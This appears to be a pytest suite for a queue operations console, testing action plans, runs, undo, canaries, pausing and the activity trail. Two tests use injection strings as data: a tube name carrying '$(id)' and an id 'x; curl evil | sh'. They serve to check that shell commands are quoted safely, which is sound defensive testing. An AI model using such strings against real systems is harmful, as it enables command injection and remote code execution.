"""Plans, the runs that carry them out, and what is left of them: on a real queue and ledger."""

from __future__ import annotations

import json
import shlex
import threading
from contextlib import suppress
from typing import TYPE_CHECKING, Any

import pytest

from glassq.console.console import Console
from glassq.console.plans import MOST, MOST_CHOSEN, ActionPlan, Plans
from glassq.console.roles import Actor, Role
from glassq.console.routes import ROUTES
from glassq.delivery import decode, encode
from glassq.errors import NotFound
from glassq.ledger import Entry, open_ledger
from glassq.operations import activity
from glassq.operations.filters import Filter
from glassq.operations.progress import Silent
from glassq.operations.result import Report
from tests.cli.conftest import a_delivery, evidence, put
from tests.conftest import wait_for
from tests.console.conftest import OPERATOR, PROXY, VIEWER, Browser, Site, site_of, words_of
from tests.syncers import queue_section

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from glassq.console.runs import Run
    from glassq.delivery import Delivery
    from tests.conftest import Beanstalkd
    from tests.queues.raw import Queue

ERROR = "HttpError: 503 from photos"


def bury(queue: Queue, count: int, error: str = ERROR) -> list[Delivery]:
    """So many buried deliveries; the newest last."""
    made = [a_delivery(buried=error, attempt=4, evidence=(evidence(error),)) for _ in range(count)]
    for each in made:
        put(queue, each, "buried")
    return made


def look(site: Site) -> None:
    """The census looks, as it does every few seconds."""
    with site.console.operations.looking() as queue:
        site.console.census.step(queue)


def cause(site: Site) -> str:
    return site.console.census.snapshot().groups[0].cause.id


def location(answer: Any, begins: str) -> str:
    assert answer.status_code == 303, words_of(answer)
    where = str(answer.headers["location"])
    assert where.startswith(begins)
    return where


def ended(browser: Browser, path: str) -> dict[str, Any]:
    """The run as it was when it was over."""
    run = browser.site.console.runs.get(path.rpartition("/")[2])
    wait_for(lambda: run.ended, "the run to end")
    found: dict[str, Any] = browser.json(f"{path}.json")
    return found


def test_a_plan_is_a_fixed_list_and_changes_nothing(house: Site, queue: Queue) -> None:
    first = bury(queue, 7)
    look(house)
    browser = house.signed_in()
    plan = location(browser.post("/plan/kick", {"cause": cause(house)}), "/plans/")
    shown = browser.json(f"{plan}.json")
    assert (shown["chosen"], shown["newer"], shown["kind"]) == (7, 0, "kick")
    assert [each["delivery"] for each in shown["sample"]] == [each.id for each in first[:1:-1]]
    assert shown["commands"]["canary"] == f"kick --where cause={cause(house)} --canary --rate 20/s"
    assert shown["title"].startswith('Kick 7 of "')
    bury(queue, 2)
    look(house)
    assert browser.json(f"{plan}.json")["newer"] == 2
    assert queue.stats_tube().buried == 9
    run = ended(browser, location(browser.post(plan, {"pace": "all"}), "/runs/"))
    # what came since is not touched
    assert (run["state"], run["done"], run["sums"]) == ("done", 7, {"kicked": 7})
    counts = queue.stats_tube()
    assert (counts.ready, counts.buried) == (7, 2)


def test_a_plan_is_carried_out_once(house: Site, queue: Queue) -> None:
    bury(queue, 2)
    look(house)
    browser = house.signed_in()
    plan = location(browser.post("/plan/kick", {"cause": cause(house), "try": "1"}), "/plans/")
    assert browser.json(f"{plan}.json")["chosen"] == 1
    runs = {location(browser.post(plan, {"pace": "all"}), "/runs/") for _ in range(3)}
    assert len(runs) == 1
    ended(browser, runs.pop())
    assert queue.stats_tube().buried == 1


def test_a_plan_is_its_makers_alone_and_not_for_ever(house: Site, queue: Queue) -> None:
    bury(queue, 1)
    look(house)
    anna, root = house.signed_in(), house.signed_in("root")
    plan = location(anna.post("/plan/kick", {"cause": cause(house)}), "/plans/")
    for other in (root, house.signed_in(VIEWER)):
        assert other.get(plan).status_code == 404
    assert root.post(plan).status_code == 404
    house.clock.go_on(901)
    assert anna.post(plan).status_code == 404
    assert "kept for 15 minutes" in anna.get(plan).text
    assert queue.stats_tube().buried == 1


def test_a_name_that_a_proxy_says_is_another_one_in_plans_and_in_the_trail(
    beanstalkd: Beanstalkd, tmp_path: Path, queue: Queue
) -> None:
    more = f'proxy_user = "{PROXY}"\nproxy_header = "X-User"\nproxy_operators = ["{OPERATOR}"]\n'
    made = site_of(tmp_path, beanstalkd.url, more, queue=queue_section(beanstalkd.url))
    ledger, now = open_ledger(made.console.settings.ledger), made.clock()
    ledger.record(Entry("d-1", "mirror", now, "done", 1, now, 0.5))
    ledger.close()
    bury(queue, 1)
    look(made)
    own, proxied = made.signed_in(), made.browser(PROXY, X_User=OPERATOR).sign_in()
    plan = location(own.post("/plan/kick", {"cause": cause(made)}), "/plans/")
    assert proxied.get(plan).status_code == 404
    assert proxied.post(plan).status_code == 404
    proxied.post("/pause")
    told = {(each.did, each.actor) for each in activity.newest(made.console.operations)}
    assert told == {("sign-in", OPERATOR), ("sign-in", f"{OPERATOR} (proxy)"), ("pause", f"{OPERATOR} (proxy)")}
    made.console.close()


def test_of_one_maker_fifty_plans_are_kept(site: Site) -> None:
    plans = Plans(site.clock)
    anna, bob = (Actor(name, Role.OPERATOR, "socket") for name in ("anna", "bob"))

    def plan(number: int, maker: str) -> ActionPlan:
        return ActionPlan(
            id=f"{maker}{number}",
            kind="kick",
            title="",
            maker=maker,
            via="console/socket",
            made=site.clock(),
            chosen=0,
            work=lambda *_: Report(),
        )

    plans.add(plan(0, "bob"))
    for number in range(MOST + 1):
        plans.add(plan(number, "anna"))
    assert plans.get("bob0", bob)
    assert plans.get("anna1", anna)
    with pytest.raises(NotFound):
        plans.get("anna0", anna)


def user(number: int) -> Actor:
    return Actor(f"user {number}", Role.OPERATOR, "socket")


def test_plans_of_whatever_kind_hold_no_more_than_fits_into_memory(site: Site) -> None:
    plans = Plans(site.clock)
    for number in range(5):
        # that of a replay holds names, and no references
        plan = ActionPlan(
            id=str(number),
            kind="replay",
            title="",
            maker=f"user {number}",
            via="console/socket",
            made=site.clock(),
            chosen=MOST_CHOSEN // 2,
            work=lambda *_: Report(),
        )
        plans.add(plan)
        plans.begin(str(number), user(number), lambda _plan: "") if number == 3 else None
    alive = []
    for number in range(5):
        with suppress(NotFound):
            alive.append(plans.get(str(number), user(number)).id)
    assert alive == ["3", "4"]


def test_what_was_worked_or_changed_since_is_left_out(house: Site, queue: Queue) -> None:
    bury(queue, 3)
    look(house)
    browser = house.signed_in()
    plan = location(browser.post("/plan/archive", {"cause": cause(house)}), "/plans/")
    queue.kick(1)
    run = ended(browser, location(browser.post(plan), "/runs/"))
    assert run["sums"] == {"archived": 2, "nothing": 1}
    assert run["left_out"] == {"it is ready by now": 1}


def test_what_is_archived_can_be_put_back_once(house: Site, queue: Queue) -> None:
    before = bury(queue, 4)
    look(house)
    browser = house.signed_in()
    plan = location(browser.post("/plan/archive", {"cause": cause(house)}), "/plans/")
    path = location(browser.post(plan), "/runs/")
    run = ended(browser, path)
    assert queue.stats_tube().buried == 0
    assert run["file"].endswith(".jsonl")
    undone = {location(browser.post(f"{path}/undo"), "/runs/") for _ in range(3)}
    assert len(undone) == 1
    back = ended(browser, undone.pop())
    assert (back["state"], back["sums"]) == ("done", {"restored": 4})
    assert queue.stats_tube().buried == 4
    look(house)
    assert {entry.delivery for entry in house.console.census.snapshot().matching(Filter(), house.console.clock())} == {
        each.id for each in before
    }
    # nothing else can be undone
    assert browser.post(f"/runs/{back['id']}/undo").status_code == 409


def test_after_a_restart_a_run_is_what_the_ledger_says_and_can_be_undone(
    house: Site, queue: Queue, beanstalkd: Beanstalkd, tmp_path: Path
) -> None:
    bury(queue, 2)
    look(house)
    browser = house.signed_in()
    plan = location(browser.post("/plan/archive", {"cause": cause(house)}), "/plans/")
    path = location(browser.post(plan), "/runs/")
    ended(browser, path)
    later = site_of(tmp_path, beanstalkd.url, queue=queue_section(beanstalkd.url))
    browser = later.signed_in()
    run = browser.json(f"{path}.json")
    assert (run["kind"], run["state"], run["done"], run["total"]) == ("archive", "done", 2, 2)
    assert ended(browser, location(browser.post(f"{path}/undo"), "/runs/"))["sums"] == {"restored": 2}
    later.console.close()


def test_a_run_that_was_killed_is_told_at_the_next_start(house: Site) -> None:
    operations = house.console.operations
    written = operations.activities(Silent())
    ours = written.begin("kick", chosen=298, run=f"{house.console.instance}0000")
    others = written.begin("kick", chosen=298, run="ffffffff0000")
    house.console.runs.start()
    told = {each.id: each for each in activity.newest(operations)}
    assert told[ours].state == "interrupted"
    assert "until then 0 of 298" in told[ours].note
    assert told[others].state == "running"


def test_a_run_stops_between_two_deliveries(house: Site, queue: Queue) -> None:
    bury(queue, 50)
    look(house)
    browser = house.signed_in()
    plan = location(browser.post("/plan/kick", {"cause": cause(house)}), "/plans/")
    path = location(browser.post(plan, {"pace": "all", "rate": "2/s"}), "/runs/")
    wait_for(lambda: house.console.runs.get(path.rpartition("/")[2]).done, "the first one to be kicked")
    # by another operator
    location(house.signed_in("root").post(f"{path}/stop"), path)
    run = ended(browser, path)
    assert run["state"] == "stopped"
    assert any("root stops it" in step["words"] for step in run["steps"])
    counts = queue.stats_tube()
    assert (counts.ready, counts.buried) == (run["sums"]["kicked"], 50 - run["sums"]["kicked"])
    assert counts.buried > 40


def test_the_end_of_the_console_ends_its_runs_and_says_how_far_they_came(house: Site, queue: Queue) -> None:
    bury(queue, 50)
    look(house)
    browser = house.signed_in()
    plan = location(browser.post("/plan/kick", {"cause": cause(house)}), "/plans/")
    path = location(browser.post(plan, {"pace": "all", "rate": "2/s"}), "/runs/")
    wait_for(lambda: house.console.runs.get(path.rpartition("/")[2]).done, "the first one to be kicked")
    house.console.runs.close()
    (told,) = activity.newest(house.console.operations, did="kick")
    assert (told.state, told.actor, told.via, told.chosen) == ("interrupted", OPERATOR, "console/socket", 50)
    assert 0 < told.done < 50
    assert told.command == f"glassq kick --where cause={cause(house)} --rate 2/s"
    look(house)
    again = location(browser.post("/plan/kick", {"cause": cause(house)}), "/plans/")
    assert browser.post(again).status_code == 409


@pytest.fixture
def worker(beanstalkd: Beanstalkd) -> Iterator[Callable[[bool], None]]:
    """Works what is ready: all of it goes well, or is buried again."""
    stop, threads = threading.Event(), []

    def start(well: bool) -> None:
        def work() -> None:
            opened = beanstalkd.queue()
            while not stop.is_set():
                if job := opened.reserve(1):
                    if well:
                        opened.delete(job.id, held=True)
                    else:
                        opened.bury(job.id)
            opened.close()

        threads.append(threading.Thread(target=work))
        threads[-1].start()

    yield start
    stop.set()
    for thread in threads:
        thread.join(30)


def test_a_canary_that_fails_again_leaves_the_rest(house: Site, queue: Queue, worker: Callable[[bool], None]) -> None:
    bury(queue, 30)
    look(house)
    worker(False)
    browser = house.signed_in()
    plan = location(browser.post("/plan/kick", {"cause": cause(house)}), "/plans/")
    run_path = location(browser.post(plan, {"pace": "canary", "rate": "20/s"}), "/runs/")
    run = ended(browser, run_path)
    assert (run["state"], run["sums"]["kicked"]) == ("stopped", 1)
    assert (run["left"], run["stopped_by"], len(run["failed"])) == (29, "itself", 1)
    page = browser.get(run_path)
    words = words_of(page)
    assert "It stopped by itself: 1 of 1 failed again. 29 were not touched, and lie buried." in words
    assert f'href="/d/{run["failed"][0]["id"]}"' in page.text
    assert f'href="/buried/{cause(house)}"' in page.text
    assert "Try one again" in words
    # the rest after all: the same again, and no trial is proposed
    form = {"cause": cause(house), "pace": "all"}
    rest = browser.get(location(browser.post("/plan/kick", form), "/plans/")).text
    assert 'value="all" checked' in rest
    assert 'value="canary" checked' not in rest
    assert queue.stats_tube().buried == 30


def test_a_canary_that_goes_well_is_followed_by_the_rest(
    house: Site, queue: Queue, worker: Callable[[bool], None]
) -> None:
    bury(queue, 15)
    look(house)
    worker(True)
    browser = house.signed_in()
    plan = location(browser.post("/plan/kick", {"cause": cause(house)}), "/plans/")
    run = ended(browser, location(browser.post(plan, {"pace": "canary"}), "/runs/"))
    assert (run["state"], run["done"], run["sums"]) == ("done", 15, {"kicked": 15})
    assert run["outcomes"] == {"done": 11}
    assert queue.stats_tube().buried == 0


def test_chosen_ones_are_moved_and_put_aside(house: Site, queue: Queue) -> None:
    moved, kept = bury(queue, 2)
    waiting = a_delivery()
    put(queue, waiting, "ready")
    look(house)
    browser = house.signed_in()
    plan = location(browser.post("/plan/move", {"id": moved.id, "to": "glassq.push.later"}), "/plans/")
    assert browser.json(f"{plan}.json")["commands"] == {"all": f"move --to glassq.push.later {moved.id}"}
    run = ended(browser, location(browser.post(plan), "/runs/"))
    assert run["sums"] == {"moved": 1}
    plan = location(browser.post("/plan/bury", {"id": waiting.id, "reason": "ticket 4711"}), "/plans/")
    run = ended(browser, location(browser.post(plan), "/runs/"))
    assert run["sums"] == {"buried": 1}
    look(house)
    view = house.console.census.snapshot()
    assert {(entry.delivery, entry.tube) for entry in view.matching(Filter(), house.console.clock())} == {
        (moved.id, "glassq.push.later"),
        (kept.id, "glassq"),
        (waiting.id, "glassq"),
    }


def test_an_edited_copy_is_a_new_delivery_whose_secrets_stay(house: Site, queue: Queue) -> None:
    # as a form it is over 100 KB
    body = {"collection": "timeline", "verifyToken": "a-secret-of-the-sender", "itemId": "old", "words": "é" * 10_000}
    old = a_delivery(body=json.dumps(body, ensure_ascii=False).encode(), buried=ERROR)
    put(queue, old, "buried")
    look(house)
    browser = house.signed_in()
    edited = json.dumps({**body, "verifyToken": "***", "itemId": "new"})
    plan = location(browser.post("/plan/replay", {"id": old.id, "body": edited}), "/plans/")
    shown = browser.get(plan).text
    assert "a-secret-of-the-sender" not in shown
    told = browser.json(f"{plan}.json")
    assert any(line.startswith("+") and "new" in line for line in told["diff"])
    run = ended(browser, location(browser.post(plan), "/runs/"))
    assert run["sums"] == {"replayed": 1}
    counts = queue.stats_tube()
    assert (counts.ready, counts.buried) == (1, 1)
    job = queue.reserve(1)
    assert job is not None
    new = decode(job.body)
    assert json.loads(new.body) == {**body, "itemId": "new"}
    assert new.labels["replay_of"] == old.id
    before, after = told["digests"]
    (trail,) = activity.newest(house.console.operations, did="copy")
    assert before[:16] in trail.note
    assert after[:16] in trail.note


def test_half_a_character_breaks_no_page(house: Site, queue: Queue) -> None:
    old = a_delivery(body=b'{"a":"\\ud800"}', buried=ERROR)
    put(queue, old, "buried")
    browser = house.signed_in()
    for path in ("", "/body", "/edit", ".json"):
        page = browser.get(f"/d/{old.id}{path}")
        assert (page.status_code, "\\ud800" in page.text) == (200, True), path
    answer = browser.ask("POST", "/notes", {"Content-Type": "application/json"}, body='{"text":"\\ud800"}')
    assert (answer.status_code, "half of a character" in answer.text) == (400, True)


def test_what_a_form_would_change_is_not_edited_at_all(house: Site, queue: Queue) -> None:
    old = a_delivery(body=b"one\r\ntwo\x00", buried=ERROR)
    put(queue, old, "buried")
    browser = house.signed_in()
    page = browser.get(f"/d/{old.id}/edit")
    assert page.status_code == 400
    assert "a form cannot keep" in words_of(page)
    assert browser.post("/plan/replay", {"id": old.id, "body": "one"}).status_code == 400


@pytest.mark.parametrize(
    ("path", "form", "status", "says"),
    [
        ("/plan/purge", {"cause": "0" * 12}, 404, "no plan of purge"),
        ("/plan/kick", {"id": "x", "cause": "0" * 12}, 400, "either some that are chosen, or a filter"),
        ("/plan/kick", {}, 400, "nothing is chosen"),
        ("/plan/archive", {"source": " ", "all": ""}, 400, "nothing is chosen"),
        ("/plan/kick", {"cause": "nothex"}, 400, "12 hex digits"),
        ("/plan/move", {"cause": "0" * 12}, 400, "--to"),
        ("/plan/move", {"cause": "0" * 12, "to": "a b"}, 400, "--to"),
        ("/plan/bury", {}, 400, "each by its id"),
        ("/plan/replay", {"id": "0" * 8, "state": "lost"}, 400, "expected done or dropped"),
        ("/pause", {"for": "0s"}, 400, "for 0s pauses nothing"),
        ("/pause", {"for": "x"}, 400, "for x"),
        ("/pause", {"for": "1m", "tube": "others"}, 400, "is not ours"),
        ("/groups/0123456789ab/note", {"text": "x" * 501}, 400, "at most 500"),
        ("/groups/nothex/note", {"text": "x"}, 400, "12 hex digits"),
        ("/runs/none/stop", {}, 404, "no such run"),
        ("/plans/none", {"pace": "fast"}, 400, "expected canary or all"),
        ("/plans/none", {"rate": "-1/s"}, 400, "rate"),
    ],
)
def test_what_cannot_be_is_said_in_words(path: str, form: dict[str, str], status: int, says: str, house: Site) -> None:
    look(house)
    answer = house.signed_in().post(path, form)
    assert answer.status_code == status
    assert says in words_of(answer)


def test_a_pause_holds_the_work_and_the_trail_has_it(house: Site, queue: Queue) -> None:
    put(queue, a_delivery(), "ready")
    browser = house.signed_in()
    location(browser.post("/pause", {"for": "30m", "next": "/queues"}), "/queues")
    assert queue.reserve(0) is None
    location(browser.post("/resume"), "/")
    assert queue.reserve(0) is not None
    told = [each for each in activity.newest(house.console.operations) if each.did != "sign-in"]
    assert [(each.did, each.actor, each.via, each.command) for each in told] == [
        ("resume", OPERATOR, "console/socket", "glassq resume"),
        ("pause", OPERATOR, "console/socket", "glassq pause --for 30m"),
    ]


def test_a_command_that_the_trail_shows_runs_nothing_else(house: Site, queue: Queue) -> None:
    # whoever reaches the queue may name tubes
    tube = "glassq.queue.$(id);x"
    queue.put(encode(a_delivery()), tube=tube)
    browser = house.signed_in()
    browser.post("/pause", {"tube": tube})
    browser.post("/resume", {"tube": tube})
    told = [each.command for each in activity.newest(house.console.operations) if each.did != "sign-in"]
    assert [shlex.split(command) for command in told] == [
        ["glassq", "resume", tube],
        ["glassq", "pause", tube, "--for", "30m"],
    ]
    assert not any("glassq.queue.$(id);x " in f"{command} " for command in told)


def test_an_id_that_looks_like_an_option_is_none_in_a_command(house: Site, queue: Queue) -> None:
    for id_ in ("--all-of-them-now", "x; curl evil | sh"):
        put(queue, a_delivery(id=id_, buried="no", attempt=4), "buried")
    browser = house.signed_in()
    plan = location(browser.post("/plan/kick", {"id": "--all-of-them-now"}), "/plans/")
    assert browser.json(f"{plan}.json")["commands"] == {"all": "kick --follow -- --all-of-them-now"}
    plan = location(browser.post("/plan/kick", {"id": "x; curl evil | sh"}), "/plans/")
    assert browser.json(f"{plan}.json")["commands"] == {"all": "kick 'x; curl evil | sh' --follow"}


def test_a_note_on_a_group_is_there_for_the_next_one(house: Site) -> None:
    browser = house.signed_in()
    for text in ("rolled back, ticket 4711", "mended"):
        location(browser.post("/groups/0123456789ab/note", {"text": text}), "/buried/0123456789ab")
        note = house.console.note_on("0123456789ab")
        assert note is not None
        assert (note.note, note.actor) == (text, OPERATOR)
    browser.post("/groups/0123456789ab/note", {"text": ""})
    assert house.console.note_on("0123456789ab") is None


def test_before_anybody_has_looked_nothing_is_planned(house: Site) -> None:
    answer = house.signed_in().post("/plan/kick", {"cause": "0" * 12})
    assert answer.status_code == 400
    assert "nobody has looked yet" in words_of(answer)


def test_two_run_at_a_time_and_a_third_waits(house: Site, queue: Queue) -> None:
    bury(queue, 60)
    look(house)
    browser = house.signed_in()
    paths = []
    for _ in range(3):
        plan = location(browser.post("/plan/kick", {"cause": cause(house)}), "/plans/")
        paths.append(location(browser.post(plan, {"pace": "all", "rate": "5/s"}), "/runs/"))
    runs: list[Run] = [house.console.runs.get(path.rpartition("/")[2]) for path in paths]
    wait_for(lambda: sorted(run.state for run in runs) == ["running", "running", "waiting"], "two to run")
    for path in paths:
        browser.post(f"{path}/stop")
    for path in paths:
        assert ended(browser, path)["state"] == "stopped"


def test_a_console_that_is_closed_leaves_no_thread(house: Site) -> None:
    before = set(threading.enumerate())
    made = Console(house.console.settings)
    made.start()
    made.close()
    assert not {thread for thread in set(threading.enumerate()) - before if thread.is_alive()}


def test_looking_changes_nothing(house: Site, queue: Queue) -> None:
    (one, *_) = bury(queue, 3)
    put(queue, a_delivery(), "ready")
    look(house)
    browser = house.signed_in()
    before = queue.stats_tube()
    for route in ROUTES:
        # doctor's one job comes and goes
        if route.method == "GET" and route.path not in ("/login", "/health"):
            for twin in ("", ".json"):
                id_ = cause(house) if route.path.startswith("/buried") else one.id
                path = route.path.replace(":path", "").format(id=id_, name="glassq")
                assert browser.get(f"{path}{twin}").status_code in (200, 303, 404), path
            house.clock.go_on(1)
    after = queue.stats_tube()
    assert (after.ready, after.buried, after.delayed, after.reserved) == (
        *(before.ready, before.buried, before.delayed),
        before.reserved,
    )
    assert {each.did for each in activity.newest(house.console.operations)} == {"sign-in"}
